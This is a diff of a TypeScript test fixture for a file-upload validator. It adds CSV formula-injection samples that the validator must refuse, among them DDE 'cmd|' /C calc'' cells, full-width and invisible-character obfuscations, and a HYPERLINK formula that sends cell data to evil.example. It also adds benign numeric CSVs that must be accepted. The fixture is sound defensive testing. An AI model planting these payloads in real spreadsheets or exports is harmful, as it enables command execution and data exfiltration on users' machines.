@@ -98,6 +98,39 @@ const older = (...names: string[]): Buffer =>
 const relation = (more: string): string => `<Relationships><Relationship Id="1" ${more}/></Relationships>`;
 const text = (value: string): Buffer => Buffer.from(value);
 
+const tablesThatCompute = [
+  "-2+3+cmd|' /C calc'!A0",
+  '+1+HYPERLINK("http://evil.example/?"&B1)',
+  "+ SUM(1)",
+  "- SUM(1)",
+  "-.1+cmd|'/C calc'!A0",
+  "-A1",
+  "\uFF1D1+1",
+  "\uFF0Bcmd|' /C calc'!A0",
+  "\uFF20SUM(1)",
+  "\u00A0=1+1",
+  "\u200B=1+1",
+  "a|=cmd",
+];
+const tableOfNumbers = [
+  "-1.234,50",
+  "-1234.5",
+  "-$1.234.567",
+  "-1.234 CLP",
+  "-UF 12,5",
+  "-5 %",
+  "- 1 234,50 \u20AC",
+  "+1.5E+10",
+  "+56 9 1234 5678",
+  "+56-2-2345-6789",
+  "+56 (9) 1234 5678",
+  "-",
+  "--",
+  "a=b",
+  "ana@correo.cl",
+  "2-1",
+].join(";");
+
 /** What it is; its name; its bytes; the sentence that says why it is refused. */
 export type HostileFile = [what: string, name: string, bytes: Buffer, sentence: string];
 
@@ -304,6 +337,19 @@ export const hostileFiles: HostileFile[] = [
   ["a table with a command", "a.csv", text("nombre;monto\n=cmd|' /C calc'!A0;1"), "file-type.active"],
   ["a table with a formula in quotes", "a.csv", text('a,"=HYPERLINK(1)"'), "file-type.active"],
   ["a table with an address", "a.csv", text("@SUM(1+1)*cmd"), "file-type.active"],
+  ...tablesThatCompute.map((cell): HostileFile => [
+    `a table with the cell ${cell}`,
+    "a.csv",
+    text(`nombre;monto\nAna;${cell}\n`),
+    "file-type.active",
+  ]),
+  ["a table that names its own sign", "a.csv", text("sep=x\nAnax=1+1"), "file-type.active"],
+  [
+    "a formula far behind",
+    "a.csv",
+    text(`a;${" ".repeat(65_530)}\n${"\u00A0".repeat(40_000)}=1+1`),
+    "file-type.active",
+  ],
   ["a table that is a page", "a.csv", text("<table><tr><td>"), "file-type.mixed"],
   ["a table with signs of control", "a.csv", text(`${"a;b\n".repeat(200)}\u0001`), "file-type.damaged"],
 ];
@@ -341,5 +387,7 @@ export const rightFiles: [what: string, name: string, bytes: Buffer, type: strin
   ],
   ["an old document", "a.doc", older("WordDocument"), "application/msword"],
   ["an old sheet", "a.xls", older("Workbook"), "application/vnd.ms-excel"],
+  ["a table of numbers with signs", "a.csv", text(`${tableOfNumbers}\n`), "text/csv"],
+  ["a table of empty lines", "a.csv", text(`a,${"\n".repeat(64 * 1024)}x`), "text/csv"],
   ["a table", "a.csv", text("\uFEFFnombre;monto\nAna;-5\nÑandú;+7,5\n"), "text/csv"],
 ];
